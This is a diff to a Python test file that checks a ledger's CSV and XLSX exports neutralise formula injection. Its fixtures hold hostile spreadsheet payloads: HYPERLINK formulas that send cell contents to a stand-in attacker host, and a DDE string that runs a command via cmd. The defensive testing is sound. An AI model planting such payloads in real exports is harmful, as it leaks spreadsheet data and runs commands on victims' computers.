@@ -6,9 +6,9 @@ from __future__ import annotations
 
 import csv
 import io
+from collections.abc import Callable
 from datetime import UTC, datetime
 from decimal import Decimal
-from pathlib import Path
 
 import pytest
 
@@ -23,13 +23,14 @@ from kedacore.team import normalize_email
 from tests.kedacore.test_exports import assert_inert_csv, assert_inert_xlsx
 
 NOW = datetime(2026, 1, 31, 10, tzinfo=UTC)
-SENDER = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+# Within the ledger's 32 characters for a sender (PostgreSQL enforces them, SQLite does not).
+SENDER = '=HYPERLINK("http://ev.il?"&A2)'
 RECIPIENTS = ["+12065550100", "+12065550101"]
 
 
 @pytest.fixture
-def ledger(tmp_path: Path):
-    with Ledger(data_dir=tmp_path, clock=lambda: NOW) as led:
+def ledger(ledger_url: Callable[..., str]):
+    with Ledger(ledger_url(), clock=lambda: NOW) as led:
         cid = led.create_campaign("@SUM(1+9)*cmd|' /C calc'!A0")
         result = SendResult(
             task_id="20260131-0001",
@@ -73,13 +74,15 @@ def test_the_cap_trail_exports_quote_a_hostile_member_address() -> None:
     assert exported["after"] == "2.5" and exported["before"] == "0"
 
 
-def test_the_audit_log_export_quotes_every_text_a_person_typed(tmp_path: Path) -> None:
+def test_the_audit_log_export_quotes_every_text_a_person_typed(
+    ledger_url: Callable[..., str],
+) -> None:
     """Who, the target and the detail (a removal's reason, a rejection's reason) come from
     people; the export of the Audit page writes each as inert text."""
     who = '=HYPERLINK("http://evil.example")@evil.example'
     reason = "@SUM(1+9)*cmd|' /C calc'!A0"
     target = "+12065550123"
-    with Ledger(data_dir=tmp_path, clock=lambda: NOW) as led:
+    with Ledger(ledger_url(), clock=lambda: NOW) as led:
         led.audit(who, "member_remove", target=target, before={"roles": ["-2+3"]}, detail=reason)
         cap = {"before": {"daily_spend_cap": None}, "after": {"daily_spend_cap": Decimal("2.5")}}
         led.audit("fin@example.com", "caps_change", target="daily caps", **cap)
